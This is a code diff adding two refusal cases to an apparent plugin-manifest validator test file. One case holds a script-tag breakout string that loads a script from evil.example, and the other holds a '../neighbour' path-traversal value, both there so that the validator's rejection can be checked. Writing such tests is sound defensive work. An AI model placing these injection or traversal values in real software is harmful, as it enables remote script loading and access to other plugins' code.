@@ -369,6 +369,15 @@ const withSource = (first: string): Pick<TestPlugin, 'source'> => ({
 /** Refused before anything of theirs runs. */
 export const REFUSED: Refused[] = [
   refuse(
+    'early-end',
+    'a frame whose script ends before it should, with another behind it',
+    {
+      contained: { frames: { a: { script: 'a.js' } } },
+      files: { 'a.js': 'const a = "</script><script src=//evil.example/a.js>";' },
+    },
+    /would end it early/,
+  ),
+  refuse(
     'unasked-file',
     'a file of the whole site, without asking for it',
     { contained: { routes: { a: { path: '/', access: 'public', wellKnown: 'openid-configuration' } } } },
@@ -468,6 +477,12 @@ export const NO_MANIFESTS: Refused[] = [
     /path/,
   ),
   refuse('odd-capability', 'a capability that there is not', { capabilities: ['everything'] }, /capabilities/),
+  refuse(
+    'climbing-frame',
+    "a frame with somebody else's script",
+    { contained: { frames: { a: { script: '../neighbour/index.js' } } } },
+    /frames/,
+  ),
   refuse(
     'climbing-file',
     'a file above those of the whole site',
